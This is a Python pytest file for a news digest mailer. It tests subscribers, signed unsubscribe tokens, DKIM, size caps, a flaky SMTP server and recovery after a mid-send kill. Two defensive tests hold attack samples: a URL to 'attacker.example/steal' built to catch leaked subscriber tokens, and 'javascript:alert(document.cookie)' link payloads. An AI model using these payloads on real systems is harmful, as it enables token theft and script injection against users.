"""Mail that arrives exactly once: subscribers and their filters, personal messages with signed
unsubscribe links, DKIM, the size cap, a flaky SMTP server, and a sender killed mid-run."""

from __future__ import annotations

import email
import json
import os
import re
import signal
import subprocess
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.policy import default as default_policy
from html import unescape
from pathlib import Path
from typing import Any

import pytest

from digest.config import load_config
from digest.store import Store
from digest.tokens import make_token, read_token, signing_key
from tests.builders import CITIES, EVENTS, body, import_stories, outbox_messages, smtp_mail, write_config
from tests.conftest import ROOT, SmtpSink, free_port, run_digest, serving, wait_for
from tests.processes import start_digest
from tests.test_operations import SlowSink

# --- subscribers ---------------------------------------------------------------------------------

def test_subscribers_add_list_update_remove(tmp_path: Path) -> None:
    config = write_config(tmp_path, mail="  outbox: outbox",
                          subscribers="  - email: listed@example.org\n")
    added = run_digest("subscribers", "add", "--config", str(config), "zoe@example.org",
                       "--name", "Zoë Ådams", "--timezone", "Europe/Paris", "--send-at", "06:30",
                       "--topic", "border", "--exclude", "Oslo", "--source", "wire",
                       "--language", "en", "--max-stories", "3")
    assert added.code == 0, added.err
    assert added.out.strip() == "added zoe@example.org"
    listed = run_digest("subscribers", "list", "--config", str(config), "--json")
    rows = {r["email"]: r for r in map(json.loads, listed.out.splitlines())}
    assert set(rows) == {"listed@example.org", "zoe@example.org"}
    assert rows["zoe@example.org"] == {
        "email": "zoe@example.org", "name": "Zoë Ådams", "origin": "cli", "active": True,
        "timezone": "Europe/Paris", "send_at": "06:30", "topics": ["border"], "exclude": ["Oslo"],
        "sources": ["wire"], "languages": ["en"], "max_stories": 3, "frequency": "daily",
        "suspended": None}
    assert rows["listed@example.org"]["origin"] == "config"

    again = run_digest("subscribers", "add", "--config", str(config), "zoe@example.org",
                       "--send-at", "07:15")
    assert again.out.strip() == "updated zoe@example.org"

    removed = run_digest("subscribers", "remove", "--config", str(config), "listed@example.org")
    assert removed.code == 0 and "also delete it from" in removed.out
    text = run_digest("subscribers", "list", "--config", str(config), "--all")
    assert re.search(r"listed@example.org .*\(unsubscribed\)", text.out)
    # a config subscriber who unsubscribed stays unsubscribed when the config is read again
    store = Store(load_config(config).database)
    store.sync_subscribers(load_config(config).subscribers)
    assert [s.email for s in store.subscribers()] == ["zoe@example.org"]


@pytest.mark.parametrize(("args", "message"), [
    (["not-an-address"], "email"),
    (["a@example.org", "--timezone", "Mars/Base"], "unknown time zone"),
    (["a@example.org", "--send-at", "25:00"], "not a time of day"),
    (["a@example.org", "--source", "nope"], "no source named 'nope'"),
    (["a@example.org", "--language", "zz"], "--language: unknown language code 'zz'"),
    (["listed@example.org"], "is listed in"),
])
def test_bad_subscriber_input_is_exit_2_with_the_reason(tmp_path: Path, args: list[str],
                                                        message: str) -> None:
    config = write_config(tmp_path, mail="  outbox: outbox",
                          subscribers="  - email: listed@example.org\n")
    result = run_digest("subscribers", "add", "--config", str(config), *args)
    assert result.code == 2
    assert message in result.err
    assert run_digest("subscribers", "remove", "--config", str(config), "who@example.org").code == 2


def test_each_subscriber_gets_only_what_they_asked_for(tmp_path: Path) -> None:
    subscribers = """\
  - email: all@example.org
  - email: two@example.org
    max_stories: 2
  - email: no-oslo@example.org
    exclude: [oslo]
  - email: doha@example.org
    topics: [Doha]
  - email: french@example.org
    languages: [fr]
"""
    config = write_config(tmp_path, mail="  outbox: outbox", subscribers=subscribers)
    import_stories(config)
    result = run_digest("send", "--config", str(config))
    assert result.code == 0, result.err
    assert "skipped french@example.org: no stories matched" in result.out
    by_rcpt = {m["To"].addresses[0].addr_spec: body(m, "plain") for m in outbox_messages(config)}
    assert set(by_rcpt) == {"all@example.org", "two@example.org", "no-oslo@example.org",
                            "doha@example.org"}
    count = {k: len(re.findall(r"^\d+\. ", v, re.M)) for k, v in by_rcpt.items()}
    assert count == {"all@example.org": 6, "two@example.org": 2, "no-oslo@example.org": 5,
                     "doha@example.org": 1}
    assert "Oslo" not in by_rcpt["no-oslo@example.org"]
    assert "Doha" in by_rcpt["doha@example.org"]


def test_a_quiet_day_note_when_configured(tmp_path: Path) -> None:
    config = write_config(tmp_path, mail="  outbox: outbox",
                          subscribers="  - email: quiet@example.org\n    topics: [volcano]\n")
    config.write_text(config.read_text().replace('max_stories: 10}', 'max_stories: 10, quiet_day: note}'))
    import_stories(config, cities=CITIES[:1])
    assert run_digest("send", "--config", str(config)).code == 0
    [msg] = outbox_messages(config)
    assert "A quiet day" in body(msg, "plain") and "A quiet day" in body(msg, "html")


# --- the message ---------------------------------------------------------------------------------

def test_personal_message_with_signed_one_click_unsubscribe(tmp_path: Path) -> None:
    subscribers = """\
  - email: zoe@example.org
    name: "Zoë <b>Ådams</b>"
  - email: ivan@example.org
    name: Иван Петров 🌍
"""
    config = write_config(tmp_path, mail="  outbox: outbox", subscribers=subscribers,
                          extra="web: {base_url: 'https://digest.example.org'}\n")
    import_stories(config, cities=CITIES[:2])
    assert run_digest("send", "--config", str(config)).code == 0
    messages = {m["To"].addresses[0].addr_spec: m for m in outbox_messages(config)}
    store = Store(load_config(config).database)
    key = signing_key(store)

    def email_of(sid: int) -> str | None:
        row = store.subscriber_by_id(sid)
        return row.email if row else None

    tokens = {}
    for address, msg in messages.items():
        assert msg["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
        links = re.findall(r"<([^>]+)>", msg["List-Unsubscribe"])
        assert links[0].startswith("https://digest.example.org/unsubscribe/")
        assert links[1].startswith("mailto:digest@example.org?subject=unsubscribe%20")
        token = links[0].rsplit("/", 1)[1]
        assert links[1].endswith(token)
        sub = store.subscriber(address)
        assert sub is not None and read_token(key, token, email_of) == sub.id
        assert links[0] in body(msg, "plain") and links[0] in body(msg, "html")
        tokens[address] = token
    assert len(set(tokens.values())) == 2
    forged = tokens["zoe@example.org"][:-2] + ("AA" if not tokens["zoe@example.org"].endswith("AA") else "BB")
    assert read_token(key, forged, email_of) is None
    other_id = store.subscriber("ivan@example.org").id  # type: ignore[union-attr]
    moved = f"{other_id}.{tokens['zoe@example.org'].split('.', 1)[1]}"
    assert read_token(key, moved, email_of) is None  # a signature is bound to its subscriber
    assert read_token(key, make_token(b"another key" * 3, other_id, "ivan@example.org"), email_of) is None

    zoe = messages["zoe@example.org"]
    assert zoe["To"].addresses[0].display_name == "Zoë <b>Ådams</b>"
    assert "for Zoë &lt;b&gt;Ådams&lt;/b&gt;" in body(zoe, "html")  # escaped in HTML
    assert "for Zoë <b>Ådams</b>" in body(zoe, "plain")
    assert "Иван Петров 🌍" in body(messages["ivan@example.org"], "plain")


def import_many(config: Path, count: int) -> None:
    """``count`` unrelated long articles (made-up words: no two share a story)."""
    import random

    now = datetime.now(UTC)
    lines = []
    for i in range(count):
        rng = random.Random(i)
        words = ["".join(rng.choice("bcdfghklmnprstvz") + rng.choice("aeiou") for _ in range(3))
                 for _ in range(60)]
        sentences = [" ".join(rng.choice(words) for _ in range(14)).capitalize() + "."
                     for _ in range(30)]
        lines.append(json.dumps({
            "url": f"https://wire.example/long/{i}", "source": "wire",
            "published": (now - timedelta(minutes=i + 5)).isoformat(),
            "title": " ".join(words[:8]).title(), "text": " ".join(sentences)}))
    (config.parent / "many.jsonl").write_text("\n".join(lines) + "\n")
    assert run_digest("import", "--config", str(config), str(config.parent / "many.jsonl")).code == 0
    built = run_digest("stories", "--config", str(config))
    assert built.code == 0 and len(built.out.splitlines()) == count, built.out


def test_html_is_cut_by_stories_under_gmails_clipping_size(tmp_path: Path) -> None:
    config = write_config(tmp_path, mail="  outbox: outbox",
                          subscribers="  - email: a@example.org\n    max_stories: 80\n",
                          extra="web: {base_url: 'https://digest.example.org'}\n")
    import_many(config, 80)
    assert run_digest("send", "--config", str(config)).code == 0
    [msg] = outbox_messages(config)
    html = body(msg, "html")
    assert 85_000 < len(html.encode()) <= 100_000
    shown = len(re.findall(r"<h2", html))
    assert 10 <= shown < 80
    assert f"{80 - shown} more stories in the online edition" in html
    assert "https://digest.example.org/digests/" in html
    assert html.rstrip().endswith("</html>")  # cut by stories, not mid-markup
    assert len(re.findall(r"^\d+\. ", body(msg, "plain"), re.M)) == shown  # text part matches


def test_dkim_signature_verifies(tmp_path: Path) -> None:
    import dkim
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    (tmp_path / "dkim.pem").write_bytes(key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()))
    public = key.public_key().public_bytes(serialization.Encoding.DER,
                                           serialization.PublicFormat.SubjectPublicKeyInfo)
    import base64

    record = b"v=DKIM1; k=rsa; p=" + base64.b64encode(public)
    config = write_config(tmp_path, mail="  outbox: outbox\n  dkim: {domain: example.org, "
                          "selector: digest, key_file: dkim.pem}",
                          subscribers="  - email: a@example.org\n    name: Zoë\n")
    import_stories(config, cities=CITIES[:1])
    assert run_digest("send", "--config", str(config)).code == 0
    [path] = list((tmp_path / "outbox").glob("*.eml"))
    raw = path.read_bytes()
    assert raw.startswith(b"DKIM-Signature:")

    def dns(name: bytes, timeout: int = 5) -> bytes:
        return record if name == b"digest._domainkey.example.org." else b""

    assert dkim.verify(raw, dnsfunc=dns)
    assert not dkim.verify(raw.replace(b"Ceasefire talks", b"Ceasefire walks"), dnsfunc=dns)


def test_a_missing_dkim_key_is_a_config_error(tmp_path: Path) -> None:
    config = write_config(tmp_path, mail="  outbox: outbox\n  dkim: {domain: example.org, "
                          "selector: digest, key_file: missing.pem}",
                          subscribers="  - email: a@example.org\n")
    import_stories(config, cities=CITIES[:1])
    result = run_digest("send", "--config", str(config))
    assert result.code == 2 and "mail.dkim.key_file" in result.err


# --- sending through a flaky server -------------------------------------------------------------

@dataclass
class FlakySink(SmtpSink):
    """Fails a share of transactions on purpose: 451 (try later), 421 (closing), dropped
    connections, and 550 for one address every time."""

    transactions: int = 0

    async def handle_DATA(self, server: Any, session: object, envelope: Any) -> str:
        self.transactions += 1
        n = self.transactions
        if "refused@" in envelope.rcpt_tos[0]:
            return "550 5.1.1 mailbox unavailable"
        if n % 7 == 0:
            server.transport.close()  # the connection drops before any reply
            return "451 gone"
        if n % 5 == 0:
            return "421 4.3.2 service shutting down"
        if n % 3 == 0:
            return "451 4.3.0 try again later"
        return await super().handle_DATA(server, session, envelope)


@pytest.fixture
def flaky() -> Iterator[FlakySink]:
    with serving(FlakySink(port=free_port())) as sink:
        yield sink


def test_a_flaky_server_still_gets_exactly_one_message_per_subscriber(tmp_path: Path,
                                                                      flaky: FlakySink) -> None:
    readers = [f"reader{i}@example.org" for i in range(12)]
    subscribers = "".join(f"  - email: {r}\n" for r in [*readers, "refused@example.org"])
    config = write_config(tmp_path, mail=smtp_mail(flaky.port), subscribers=subscribers)
    import_stories(config, cities=CITIES[:2])
    codes = []
    for _ in range(4):  # cron runs again later; the store remembers who has their digest
        result = run_digest("send", "--config", str(config))
        codes.append(result.code)
        if "FAILED for refused@example.org" in result.err:
            assert "550 5.1.1 mailbox unavailable" in result.err
    assert codes[0] == 1 and codes[-1] == 0  # the permanent failure is reported once
    assert sorted(flaky.recipients) == sorted(readers)  # everyone exactly once
    assert flaky.transactions > len(readers) + 3  # failures did happen
    status = json.loads(run_digest("status", "--config", str(config), "--json").out)
    failed = [d for d in status["deliveries"] if d["status"] == "failed"]
    assert [d["email"] for d in failed] == ["refused@example.org"]
    assert "550" in failed[0]["error"]


def test_rate_limit_paces_the_messages(tmp_path: Path) -> None:
    subscribers = "".join(f"  - email: r{i}@example.org\n" for i in range(5))
    config = write_config(tmp_path, mail="  outbox: outbox\n  rate_per_second: 10",
                          subscribers=subscribers)
    import_stories(config, cities=CITIES[:1])
    started = time.monotonic()
    assert run_digest("send", "--config", str(config)).code == 0
    assert len(outbox_messages(config)) == 5
    stamps = sorted(p.stat().st_mtime for p in (tmp_path / "outbox").glob("*.eml"))
    assert stamps[-1] - stamps[0] >= 0.3  # 5 messages at 10/s: about 0.4 s from first to last
    assert time.monotonic() - started >= 0.4


# --- a sender killed in the middle ---------------------------------------------------------------

@pytest.fixture
def slow() -> Iterator[SlowSink]:
    with serving(SlowSink(port=free_port(), delay=0.5)) as sink:
        yield sink


def test_sigkill_mid_send_then_restart_delivers_everyone_once(tmp_path: Path, slow: SlowSink) -> None:
    readers = [f"reader{i}@example.org" for i in range(8)]
    config = write_config(tmp_path, mail=smtp_mail(slow.port),
                          subscribers="".join(f"  - email: {r}\n" for r in readers))
    import_stories(config, cities=CITIES[:2])
    victim = start_digest("send", "--config", str(config),
                              cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    wait_for(lambda: len(slow.messages) >= 3, timeout=60)
    os.kill(victim.pid, signal.SIGKILL)
    victim.communicate()
    before = len(slow.recipients)
    assert before < len(readers)

    again = run_digest("send", "--config", str(config))
    assert again.code == 0, again.err
    time.sleep(1.0)  # a transaction cut by the kill may still complete on the server side
    counts = Counter(slow.recipients)
    assert set(counts) == set(readers)  # nobody lost
    doubled = [r for r, n in counts.items() if n > 1]
    assert len(doubled) <= 1 and all(counts[r] == 2 for r in doubled)
    if doubled:  # only the message in flight at the kill, and the resend is logged
        assert "was interrupted; sending it again" in again.err
    assert run_digest("send", "--config", str(config)).out.strip() == "nothing due"
    assert len(slow.recipients) == sum(counts.values())


# --- international addresses ---------------------------------------------------------------------

@dataclass
class EnvelopeSink(SmtpSink):
    """Keeps each message's envelope sender as well."""

    senders: list[str] = field(default_factory=list)
    raw: list[bytes] = field(default_factory=list)

    async def handle_DATA(self, server: object, session: object, envelope: Any) -> str:
        self.senders.append(envelope.mail_from)
        self.raw.append(envelope.original_content)
        return await super().handle_DATA(server, session, envelope)


@contextmanager
def smtp_server(*, smtputf8: bool) -> Iterator[EnvelopeSink]:
    from aiosmtpd.controller import Controller

    sink = EnvelopeSink(port=free_port())
    controller = Controller(sink, hostname="127.0.0.1", port=sink.port, enable_SMTPUTF8=smtputf8)
    controller.start()
    try:
        yield sink
    finally:
        controller.stop()


INTERNATIONAL = ["plain@example.org", "joerg@exämple.org", "x@xn--exmple-cua.org", "jörg@exämple.org"]


def _international_config(tmp_path: Path, port: int) -> Path:
    config = write_config(tmp_path, mail=smtp_mail(port), subscribers="  - email: plain@example.org\n")
    config.write_text(config.read_text().replace("Digest Desk <digest@example.org>",
                                                 "Dïgest Desk <digest@exämple.org>"))
    for address in INTERNATIONAL[1:]:  # what the attack did: accepted, then every send crashed
        # an ASCII name beside a UTF-8 local part: formataddr wrote the address in ASCII and failed
        named = ["--name", "Jorg"] if address == "jörg@exämple.org" else []
        added = run_digest("subscribers", "add", "--config", str(config), address, *named)
        assert added.code == 0, added.err
    import_stories(config, cities=CITIES[:1])
    return config


def test_international_addresses_go_out_in_idna_and_utf8_only_where_offered(tmp_path: Path) -> None:
    with smtp_server(smtputf8=False) as sink:
        config = _international_config(tmp_path, sink.port)
        sent = run_digest("send", "--config", str(config))
    assert sent.code == 1  # one delivery failed, with its reason; the others went out
    assert sorted(sink.recipients) == ["joerg@xn--exmple-cua.org", "plain@example.org",
                                       "x@xn--exmple-cua.org"]
    assert set(sink.senders) == {"digest@xn--exmple-cua.org"}
    assert "FAILED for jörg@exämple.org" in sent.err and "SMTPUTF8" in sent.err
    for msg in sink.messages:
        assert msg["From"].addresses[0].display_name == "Dïgest Desk"
        assert msg["From"].addresses[0].addr_spec == "digest@xn--exmple-cua.org"
    store = Store(load_config(config).database)
    statuses = {d.email: d.status for d in store.deliveries()}
    assert statuses == {"plain@example.org": "sent", "joerg@exämple.org": "sent",
                        "x@exämple.org": "sent", "jörg@exämple.org": "failed"}  # as validated
    store.close()
    assert run_digest("send", "--config", str(config)).out.strip() == "nothing due"


def test_a_server_with_smtputf8_gets_a_non_ascii_local_part(tmp_path: Path) -> None:
    with smtp_server(smtputf8=True) as sink:
        config = _international_config(tmp_path, sink.port)
        sent = run_digest("send", "--config", str(config))
    assert sent.code == 0, sent.err
    assert "jörg@xn--exmple-cua.org" in sink.recipients and len(sink.recipients) == 4
    # headers in UTF-8 (RFC 6532): the standard library reads them from text, not bytes
    [mail] = [email.message_from_string(raw.decode("utf-8"), policy=default_policy)
              for raw in sink.raw if "jörg".encode() in raw]
    assert isinstance(mail, EmailMessage)
    assert mail["To"].addresses[0].addr_spec == "jörg@xn--exmple-cua.org"
    assert mail["To"].addresses[0].display_name == "Jorg"
    assert "Ceasefire talks" in body(mail, "plain")


def test_a_message_that_cannot_be_built_fails_alone(tmp_path: Path) -> None:
    with smtp_server(smtputf8=False) as sink:
        config = _international_config(tmp_path, sink.port)
        store = Store(load_config(config).database)
        store.add_subscriber("odd@exa\u200bmple..org")  # stored before validation was stricter
        store.close()
        sent = run_digest("send", "--config", str(config))
    assert sent.code == 1 and "Traceback" not in sent.err
    assert "plain@example.org" in sink.recipients
    store = Store(load_config(config).database)
    statuses = {d.email: d.status for d in store.deliveries()}
    assert "sending" not in statuses.values()
    assert statuses["odd@exa\u200bmple..org"] == "failed"
    store.close()


def test_scraped_text_never_becomes_a_personal_value(tmp_path: Path) -> None:
    # the attack: a page whose canonical link holds the placeholders the per-subscriber
    # fill-in looked for was mailed with the subscriber's name and token in the link
    from digest.render import HOLES

    config = write_config(tmp_path, mail="  outbox: outbox",
                          subscribers='  - email: carol@example.org\n    name: Carol\n',
                          extra="web: {base_url: 'https://digest.example.org'}\n")
    old = ("DIGESTxPERSONALxNAMEx7c1f", "DIGESTxPERSONALxTOKENx7c1f")  # the public strings of before
    url = f"http://attacker.example/steal?n={old[0]}&t={old[1]}&m={HOLES[0]}&k={HOLES[1]}"
    now = datetime.now(UTC)
    text = (f"Envoys met in Geneva to sign a grain corridor accord {old[1]} {HOLES[1]}. "
            f"Diplomats said the accord {old[0]} {HOLES[0]} takes effect on Monday.")
    statement = ("The ministry welcomes the grain corridor accord signed in Geneva by the envoys. "
                 "The accord on the grain corridor will take effect on Monday, the ministry said.")
    lines = [json.dumps({"url": url if source == "wire" else f"https://{source}.example/1",
                         "source": source, "published": (now - timedelta(hours=1)).isoformat(),
                         "title": f"Grain corridor accord signed {HOLES[0]}", "text": body})
             for source, body in (("wire", text), ("ministry", statement))]
    (tmp_path / "articles.jsonl").write_text("\n".join(lines) + "\n")
    assert run_digest("import", "--config", str(config), str(tmp_path / "articles.jsonl")).code == 0
    assert run_digest("stories", "--config", str(config)).code == 0
    assert run_digest("send", "--config", str(config)).code == 0
    [msg] = outbox_messages(config)
    token = re.findall(r"<https://digest.example.org/unsubscribe/([^>]+)>", msg["List-Unsubscribe"])[0]
    store = Store(load_config(config).database)
    [stored] = [a.url for a in store.articles_between(now - timedelta(days=1), now) if "attacker" in a.url]
    store.close()
    html, plain = body(msg, "html"), body(msg, "plain")
    links = re.findall(r'href="(http://attacker[^"]*)"', html)
    assert links and {unescape(link) for link in links} == {stored.replace(HOLES[0], "").replace(HOLES[1], "")}
    for part in (html, plain):
        assert token not in part.replace(f"/unsubscribe/{token}", "").replace(
            f"/preferences/{token}", "").replace(f"?t={token}", "")
        assert "Carol" not in part.replace("for Carol", "", 1)
        assert old[1] in part  # scraped text stays as it was, inert


def test_only_web_urls_are_imported_and_rendered_as_links(tmp_path: Path) -> None:
    from digest.domain import NewArticle

    config = write_config(tmp_path, mail="  outbox: outbox", subscribers="  - email: a@example.org\n",
                          extra="web: {base_url: 'https://digest.example.org'}\n")
    now = datetime.now(UTC)
    bad = json.dumps({"url": "javascript:alert(document.cookie)", "source": "wire",
                      "published": now.isoformat(), "title": "t", "text": "x"})
    (tmp_path / "bad.jsonl").write_text(bad + "\n")
    refused = run_digest("import", "--config", str(config), str(tmp_path / "bad.jsonl"))
    assert refused.code == 2 and "line 1: url 'javascript:alert(document.cookie)' is not an http(s) URL" in refused.err
    # a row stored by an older version, or by a bug: shown as text, never as a link
    store = Store(load_config(config).database)
    store.migrate()
    store.sync_sources(load_config(config).sources)
    title, lead = EVENTS["Oslo"]
    store.add_articles([NewArticle(source=s, url=url, title=title, text=lead, published=now - timedelta(hours=1))
                        for s, url in (("wire", "javascript:alert(1)"), ("ministry", "data:text/html,x"))])
    store.close()
    assert run_digest("stories", "--config", str(config)).code == 0
    out = tmp_path / "preview"
    assert run_digest("preview", "--config", str(config), "--out", str(out)).code == 0
    html, text = (out / "digest.html").read_text(), (out / "digest.txt").read_text()
    assert "Fisheries quota deal" in html
    assert "javascript:" not in html and "data:text" not in html
    assert "javascript:" not in text and "data:text" not in text
